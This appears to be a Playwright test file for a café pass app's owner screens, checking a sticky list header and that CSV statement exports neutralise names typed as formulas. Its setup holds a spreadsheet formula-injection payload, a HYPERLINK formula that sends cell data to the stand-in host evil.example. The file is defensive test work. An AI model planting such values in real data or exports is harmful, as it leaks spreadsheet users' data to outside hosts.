// Owner lists read by a shop owner, not a database: a long Plans & items list keeps its column names in view while
// it scrolls (its box scrolls sideways at 200 % zoom, which made that box the header's sticky container, so the
// header scrolled away with the rows), and a statement saved as CSV keeps a name typed as a formula from running
// in the owner's spreadsheet.
import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { clientId, hostPerFile } from './support/host';
import { ownerPage } from './support/shop';
import { axe, SCREENS, shot } from './support/checks';

test.describe.configure({ mode: 'serial' });
const host = hostPerFile();

test.beforeAll(async () => {
  await host.setClock('2026-03-27T15:00:00.000Z');
  await host.call('shop.setup', { clientId: clientId(), name: 'Long Menu Café', currency: 'USD', timeZone: 'America/New_York', locale: 'en-US', creditUnit: 'drink', pin: '2468' });
  await host.call('owner.unlock', { pin: '2468' });
  for (let i = 1; i <= 40; i += 1) {
    await host.call('items.save', { clientId: clientId(), name: `Drink ${String(i).padStart(2, '0')}`, usageUnit: 'drink', rate: '1', cashPrice: '4.50', hotkey: null, category: 'Coffee' });
  }
  const plan = await host.call<{ id: number }>('plans.save', { clientId: clientId(), name: '=1+1 Pass', credits: '10', price: '20', validity: 'month', overagePolicy: 'block' });
  const c = await host.call<{ id: number }>('customers.create', { clientId: clientId(), name: '=HYPERLINK("http://evil.example/?"&B2,"Anna")' });
  await host.call('passes.sell', { clientId: clientId(), customerId: c.id, planId: plan.id, paymentMethod: 'card' });
  await host.call('owner.lock');
});

test('a 40-item list scrolls inside its box with the column names kept in view', async ({ browser }) => {
  const page = await ownerPage(browser, host, { height: 800 });
  const context = page.context();
  await page.getByRole('navigation', { name: 'Owner sections' }).getByRole('button', { name: 'Plans & items' }).click();
  await page.getByRole('button', { name: 'Items', exact: true }).click();
  const box = page.getByRole('region', { name: 'Items', exact: true });
  const table = box.getByRole('table', { name: 'Items' });
  await expect(table.getByRole('row')).toHaveCount(41);
  // the box is shorter than the list and scrolls down itself
  const { scrollHeight, clientHeight } = await box.evaluate((el) => ({ scrollHeight: el.scrollHeight, clientHeight: el.clientHeight }));
  expect(scrollHeight).toBeGreaterThan(clientHeight);
  // with the keyboard too: the box is focusable, End scrolls it to the foot
  await box.focus();
  await page.keyboard.press('End');
  await expect(table.getByRole('cell', { name: 'Drink 40', exact: true })).toBeInViewport();
  await expect.poll(() => box.evaluate((el) => el.scrollTop)).toBeGreaterThan(0);
  // the header sits at the top of the box, over the rows, after the scroll
  const header = table.getByRole('columnheader', { name: 'Name' });
  const [hb, bb] = [await header.boundingBox(), await box.boundingBox()];
  expect(hb && bb && Math.abs(hb.y - bb.y)).toBeLessThanOrEqual(2);
  await expect(table.getByRole('cell', { name: 'Drink 01', exact: true })).not.toBeInViewport();
  await shot(page, 'owner-lists-sticky-header');
  await axe(page, 'a long items list scrolled');
  await context.close();
});

test('a statement saved as CSV keeps a name typed as a formula from running in a spreadsheet', async ({ browser }) => {
  const page = await ownerPage(browser, host, { height: 800, downloads: true });
  const context = page.context();
  await page.getByRole('navigation', { name: 'Owner sections' }).getByRole('button', { name: 'Statements' }).click();
  await page.getByLabel('Customer').fill('HYPER');
  await page.getByRole('listbox', { name: 'Matching customers' }).getByRole('option', { name: /HYPERLINK/ }).click();
  await page.getByLabel('From').fill('2026-03-01');
  await page.getByLabel('To (including)').fill('2026-03-31');
  await page.getByRole('button', { name: 'Show statement' }).click();
  await expect(page.getByTestId('statement-preview').getByTestId('statement-doc')).toBeVisible();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Save CSV…' }).click();
  const file = path.join(SCREENS, 'owner-lists-statement.csv');
  await (await download).saveAs(file);
  const rows = fs.readFileSync(file, 'utf8').trim().split('\n').slice(1);
  expect(rows.length).toBeGreaterThan(1);
  // every row starts with the name as text ('=…), never a live formula; the plan name too
  for (const row of rows) expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&B2,""Anna""\)",[A-Z0-9]+,\d+,'=1\+1 Pass,/);
  await context.close();
});
